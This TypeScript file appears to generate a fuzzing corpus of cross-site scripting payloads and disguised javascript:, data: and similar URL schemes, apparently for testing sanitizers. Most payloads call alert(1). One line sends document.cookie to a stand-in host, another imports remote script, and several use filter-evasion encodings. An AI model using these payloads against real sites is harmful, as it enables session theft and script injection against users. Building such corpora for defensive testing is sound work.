/** What ends the place that a text stands in: an element, an attribute, a script, a comment, a section of XML, a quoted JSON. */
const ENDS = [
  '',
  '">',
  "'>",
  '</p>',
  '</script>',
  '</title></textarea></style>',
  '-->',
  ']]>',
  '\\u003c/script\\u003e',
  '"}]}</script>',
  '`${',
  '&quot;&gt;',
] as const

/** `@` stands for what would run. */
const ELEMENTS = [
  '<script>@</script>',
  '<ScRiPt>@</sCrIpT>',
  '<script src=data:,@></script>',
  '<scr<script>ipt>@</scr</script>ipt>',
  '<img src=x onerror=@>',
  '<IMG SRC=x OnErRoR="@">',
  '<img/src="x"/onerror=@//',
  '<img src=x:@ onerror=eval(src)>',
  '<svg onload=@>',
  '<svg/onload=@',
  '<svg><script>@</script></svg>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:@"><text y=20>a</text></a>',
  '<math><a href="javascript:@">a</a></math>',
  '<body onload=@>',
  '<iframe src="javascript:@">',
  '<iframe srcdoc="<script>@</script>">',
  '<object data="data:text/html,<script>@</script>">',
  '<embed src="javascript:@">',
  '<a href="javascript:@">a</a>',
  '<a href="java&#115;cript:@">a</a>',
  '<form action="javascript:@"><button>a</button></form>',
  '<button formaction="javascript:@">a</button>',
  '<input autofocus onfocus=@>',
  '<details open ontoggle=@>',
  '<video><source onerror=@></video>',
  '<audio src onerror=@>',
  '<marquee onstart=@>',
  '<style>@import "javascript:@";</style>',
  '<link rel=stylesheet href="javascript:@">',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<base href="javascript:@//">',
  '<template><script>@</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<p style="animation:x" onanimationstart=@>',
  '<?xml-stylesheet href="javascript:@"?>',
  '" onmouseover="@" x="',
  "' onfocus='@' autofocus x='",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what such a text looks like
  '${@}',
  '{{@}}',
  '[a](javascript:@)',
  '![a](x"onerror="@)',
] as const

const RUNS = [
  'alert(1)',
  'alert`1`',
  '(alert)(1)',
  'top["al"+"ert"](1)',
  'eval(atob("YWxlcnQoMSk="))',
  '\\u0061lert(1)',
  '&#97;lert(1)',
  '&#x61;lert&lpar;1&rpar;',
  '%61lert(1)',
  'al\tert(1)',
  'al\u200bert(1)',
  'fetch("//a.example/"+document.cookie)',
  "setTimeout('alert(1)')",
  '1;alert(1)//',
  'self[/*a*/"alert"](1)',
  'import("//a.example/a.js")',
] as const

/** Texts that would run as scripts where they were taken for markup: every end with every element and every script. */
export const scriptTexts = (): string[] =>
  ENDS.flatMap((end) => ELEMENTS.flatMap((element) => RUNS.map((run) => end + element.replaceAll('@', run))))

const SCHEMES = [
  'javascript',
  'vbscript',
  'data',
  'livescript',
  'blob',
  'file',
  'filesystem',
  'view-source',
  'jar',
  'intent',
]

/** Ways to write a scheme that browsers, or readers of feeds, may take for the plain one. */
const DISGUISES: readonly ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:`,
  (scheme) => `${scheme.toUpperCase()}:`,
  (scheme) =>
    [...scheme]
      .map((letter, index) => (index % 2 ? letter : letter.toUpperCase()))
      .join('')
      .concat(':'),
  ...[
    '\t',
    '\n',
    '\r',
    '\0',
    '\u0001',
    '\u00a0',
    '\u00ad',
    '\u200b',
    '\u2028',
    '\ufeff',
    '\u202e',
    '\\',
    '/',
    '%09',
    '&Tab;',
  ].flatMap((sign) => [
    (scheme: string) => `${sign}${scheme}:`,
    (scheme: string) => `${scheme.slice(0, 4)}${sign}${scheme.slice(4)}:`,
    (scheme: string) => `${scheme}${sign}:`,
  ]),
  (scheme) => `${scheme}&colon;`,
  (scheme) => `${scheme}&#58;`,
  (scheme) => `&#${scheme.charCodeAt(0)};${scheme.slice(1)}:`,
  (scheme) => `//${scheme}:`,
  (scheme) => `\\\\${scheme}:`,
  (scheme) => `feed:${scheme}:`,
  (scheme) => `url:${scheme}:`,
  (scheme) => `http:${scheme}:`,
  (scheme) => `https:\\${scheme}:`,
  (scheme) => `mailto:${scheme}:`,
]

const GOALS = [
  'alert(1)',
  '//a.example/%0aalert(1)',
  'text/html,<script>alert(1)</script>',
  'text/html;base64,PHNjcmlwdD4=',
  '',
]

/** Addresses that lead into a script, or nowhere on the web. */
export const scriptAddresses = (): string[] =>
  SCHEMES.flatMap((scheme) => DISGUISES.flatMap((write) => GOALS.map((goal) => write(scheme) + goal)))
